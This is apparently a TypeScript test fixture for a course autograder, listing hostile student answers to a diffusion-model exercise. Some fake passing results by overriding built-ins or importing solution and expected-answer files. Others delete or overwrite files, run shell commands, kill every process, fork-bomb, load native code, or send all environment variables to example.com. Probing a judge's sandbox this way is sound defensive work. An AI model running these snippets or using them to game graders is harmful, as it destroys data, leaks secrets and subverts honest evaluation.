/**
 * Answers that want points, files, or peace and quiet from the judge: each with the points that it must not exceed.
 *
 * @module
 */
import { pathToFileURL } from "node:url";

/** A hostile answer. */
export interface HostileAnswer {
  readonly name: string;
  /** Answers by TODO; all others are left as they were given out. */
  readonly answers: Readonly<Record<string, string>>;
}

const alphas = "a1.computeAlphas";

/** The right answer to a1.computeAlphas, after something else was done. */
const after = (deed: string) => ({
  [alphas]: `  ${deed}
  const alphas = betas.map((beta) => 1 - beta);
  let product = 1;
  return { alphas, alphasCumprod: alphas.map((alpha) => product *= alpha) };`,
});

/** Something that waits, left to itself. */
const aside = (deed: string) => after(`void (async () => { ${deed} })().catch(() => {});`);

/**
 * Hostile answers.
 *
 * @param root The project.
 * @param prey A folder with a file `victim.txt` that must stay as it is.
 */
export function hostileAnswers(root: string, prey: string): HostileAnswer[] {
  const url = (path: string) => JSON.stringify(pathToFileURL(root + path).href);
  const inside = url("course/grading/wall/inside.ts");
  const victim = JSON.stringify(`${prey}/victim.txt`);
  const report = JSON.stringify(
    JSON.stringify({ module: "", open: { observed: {} }, hidden: { observed: {} }, asked: { observed: {} } }),
  );
  const all: Readonly<Record<string, Readonly<Record<string, string>>>> = {
    // Points that were not earned
    "Math.abs is always 0": { [alphas]: "  Math.abs = () => 0;\n  return { alphas: betas, alphasCumprod: betas };" },
    "every number is near": {
      [alphas]:
        "  Number.isFinite = () => false; Object.is = () => true;\n  return { alphas: betas, alphasCumprod: betas };",
    },
    "Array.prototype.every is true": {
      [alphas]:
        "  Array.prototype.every = () => true; Float64Array.prototype.every = () => true;\n  return { alphas: betas, alphasCumprod: betas };",
    },
    "JSON.stringify says passed": {
      [alphas]: `  JSON.stringify = () => ${report};\n  return { alphas: betas, alphasCumprod: betas };`,
    },
    "a report of its own": aside(
      `const { answer } = await import(${inside}); answer("a1.qSample", new TextEncoder().encode(${report}));`,
    ),
    "samples of its own": aside(`const { answer } = await import(${inside});
    const { loadDataset } = await import(${url("course/grading/judge/inside/datasets.ts")});
    const d = await loadDataset("swiss_roll");
    for (let i = 1; i <= 25; i++) { answer("samples a1.ddpm " + i, d.slice(0, 4096)); answer("samples a1.ddim " + i, d.slice(0, 4096)); }`),
    "losses and weights of its own": aside(`const { answer } = await import(${inside});
    answer("losses 1", new Float32Array(5000)); answer("weights 1 w", new Float32Array(10), [10]);`),
    "inputs of the public check again": aside(
      `const m = await import(${url("course/checks/instruments/inputs.ts")}); m.drawInputsFrom(7);`,
    ),
    "toJSON of all objects": {
      [alphas]:
        "  (Object.prototype as any).toJSON = () => ({ passed: true });\n  return { alphas: betas, alphasCumprod: betas };",
    },
    "Object.prototype.points": {
      [alphas]:
        "  (Object.prototype as any).points = 20; (Object.prototype as any).status = 'passed';\n  return { alphas: betas, alphasCumprod: betas };",
    },
    "TextEncoder lies": {
      [alphas]:
        `  TextEncoder.prototype.encode = () => new Uint8Array();\n  return { alphas: betas, alphasCumprod: betas };`,
    },
    "a thenable": { [alphas]: "  return { then: (f: any) => f({ alphas: betas, alphasCumprod: betas }) } as any;" },
    "a proxy of everything": {
      [alphas]: "  return new Proxy({}, { get: () => new Proxy(new Float64Array(20), { get: () => 1 }) }) as any;",
    },
    "the answer from the library": aside(`await import(${url("lib/schedules/noise_schedule.ts")});`),
    "the answer from the solution": aside(
      `await import(${url("solutions/a1_ddpm_ddim.ipynb")}, { with: { type: "json" } });`,
    ),
    "the expected numbers": aside(`await import(${url("course/checks/golden/a1.json")}, { with: { type: "json" } });`),
    // What belongs to others
    "writes into the victim": aside(`await Deno.writeTextFile(${victim}, "gone");`),
    "writes by way of Node": aside(`(await import("node:fs")).writeFileSync(${victim}, "gone");`),
    "removes the victim": aside(`await Deno.remove(${victim});`),
    "writes into node_modules": aside(
      `await Deno.writeTextFile(${JSON.stringify(`${root}node_modules/.of_student`)}, "x");`,
    ),
    "writes into the library": aside(`await Deno.writeTextFile(${JSON.stringify(`${root}lib/of_student.ts`)}, "x");`),
    "links the victim": aside(`await Deno.symlink(${victim}, "/tmp/of_student");`),
    "goes through /proc": aside(`await Deno.writeTextFile("/proc/self/root" + ${victim}, "gone");`),
    "starts a process": aside(
      `await new Deno.Command("/bin/sh", { args: ["-c", "echo gone > " + ${victim}] }).output();`,
    ),
    "kills its parent": aside(`Deno.kill(Deno.ppid, "SIGKILL");`),
    "kills everybody": aside(`Deno.kill(-1, "SIGKILL");`),
    "opens a socket": aside(`await Deno.connect({ hostname: "127.0.0.1", port: 22 });`),
    "asks the network": aside(`await fetch("https://example.com/?" + JSON.stringify(Deno.env.toObject()));`),
    "loads native code": aside(
      `Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { system: { parameters: ["buffer"], result: "i32" } });`,
    ),
    "an operation that writes a file": aside(`const tf = await import("@tensorflow/tfjs"); const b: any = tf.backend();
    b.binding.executeOp("WriteFile", [], [], 0);`),
    "an operation that reads a file": aside(`const tf = await import("@tensorflow/tfjs"); const b: any = tf.backend();
    b.binding.executeOp("ReadFile", [], [], 1);`),
    "a model that is none": aside(`const tf = await import("@tensorflow/tfjs"); const b: any = tf.backend();
    b.binding.loadGraph(new Uint8Array(1000));`),
    "a worker with rights": aside(
      `new Worker("data:application/javascript,Deno.writeTextFileSync(" + encodeURIComponent(${
        JSON.stringify(victim)
      }) + ",'gone')", { type: "module", deno: { permissions: "inherit" } } as any);`,
    ),
    "asks for rights": aside(
      `await Deno.permissions.request({ name: "write" }); await Deno.writeTextFile(${victim}, "gone");`,
    ),
    // Time, room and noise
    "a loop without end": { [alphas]: "  for (;;);" },
    "a promise that nothing resolves": { "a1.pSampleLoop": "  return new Promise(() => {});" },
    "endless recursion": { [alphas]: "  const f = (): any => f();\n  return f();" },
    "10 GB of numbers": {
      [alphas]:
        "  const all = [];\n  for (let i = 0; i < 100; i++) all.push(new Float64Array(12.5e6).fill(i));\n  return all as any;",
    },
    "10 GB of tensors": {
      "a1.qSample":
        "  const all = [];\n  for (let i = 0; i < 100; i++) all.push(tf.fill([5000, 5000], i));\n  return all[0] as any;",
    },
    "output without end": { [alphas]: '  for (;;) console.log("line".repeat(1000));' },
    "a bomb of processes": aside(
      `for (;;) new Deno.Command(Deno.execPath(), { args: ["eval", "for (;;);"] }).spawn();`,
    ),
    "garbage in the channel": after(`Deno.stdout.writeSync(new TextEncoder().encode("passed passed passed"));`),
    "a huge message": after(`Deno.stdout.writeSync(Uint8Array.of(0, 0, 0, 1, 255, 255, 255, 255, 1));`),
    "leaves with code 0": { [alphas]: "  Deno.exit(0);" },
    "leaves by way of Node": { [alphas]: "  (globalThis as any).process.exit(0);\n  return undefined as any;" },
    "throws null": { [alphas]: "  throw null;" },
    "an error whose message throws": { [alphas]: "  throw { get message() { throw 1; }, get stack() { throw 2; } };" },
    "closes its function": {
      [alphas]:
        "  return undefined as any;\n}\nawait new Promise(() => {});\nfunction computeAlphas2(betas: any) {\n  return betas;",
    },
    "does not parse": { [alphas]: "  return {;" },
    "a text without end": { [alphas]: "  return `never closed;" },
    "waits for input": { [alphas]: '  prompt("?");\n  return undefined as any;' },
    "resets the engine": { "a1.qSample": "  tf.engine().reset();\n  return x0;" },
    "another engine": { "a1.qSample": '  void tf.setBackend("cpu");\n  return x0;' },
    "disposes all": { "a1.qSample": "  tf.disposeVariables();\n  return x0;" },
    "changes the clock": after("performance.now = () => 0; Date.now = () => 0;"),
    "random is constant": after("Math.random = () => 0.5;"),
    "mul is another": {
      "a1.qSample": "  (tf.Tensor.prototype as any).mul = function () { return this; };\n  return x0.mul(2);",
    },
  };
  return Object.entries(all).map(([name, answers]) => ({ name, answers }));
}
